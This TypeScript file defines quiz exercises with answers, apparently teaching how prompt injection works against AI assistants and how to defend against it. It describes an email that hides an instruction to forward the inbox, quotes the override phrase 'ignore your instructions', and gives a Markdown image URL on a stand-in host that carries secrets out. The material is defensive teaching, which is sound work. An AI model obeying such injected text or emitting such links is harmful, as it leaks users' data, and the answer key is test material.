import { defineExercises } from "@qkv/quiz";

export default defineExercises([
  {
    id: "indirect",
    kind: "multiple-choice",
    prompt: "An email assistant summarises incoming mail and can send email. Which is an *indirect* prompt injection?",
    choices: [
      { text: "An incoming email contains hidden text telling the assistant to forward the inbox to an outside address", correct: true, explanation: "The attacker's instruction arrives through data the app feeds the model." },
      { text: "The user asks the assistant to write a rude reply", correct: false, explanation: "That is the user's own request, not an injection." },
      { text: "The user types \"ignore your instructions\" into the chat", correct: false, explanation: "That is direct injection." },
    ],
  },
  {
    id: "best-defence",
    kind: "multiple-choice",
    prompt: "Which measure limits the damage of a successful injection in a tool-using agent most reliably?",
    choices: [
      { text: "Least-privilege tools plus human confirmation of consequential actions", correct: true, explanation: "It bounds what the model can do even when it is fooled." },
      { text: "A stronger system prompt telling the model never to obey instructions in documents", correct: false, explanation: "Helps somewhat, but the model cannot reliably separate instructions from data." },
      { text: "A regular-expression blocklist of attack phrases", correct: false, explanation: "Trivially bypassed by rephrasing, spacing or other languages." },
    ],
  },
  {
    id: "exfiltration",
    kind: "recall",
    prompt: "How can an injected instruction exfiltrate data from a chat app without any tool, and what blocks it?",
    answer: "It makes the model emit a Markdown image or link whose URL carries the secret (e.g. `![](https://evil.example/?q=<data>)`); the client loads it automatically. Block auto-loading of external images/links (or allow-list domains) and treat model output as untrusted.",
  },
]);
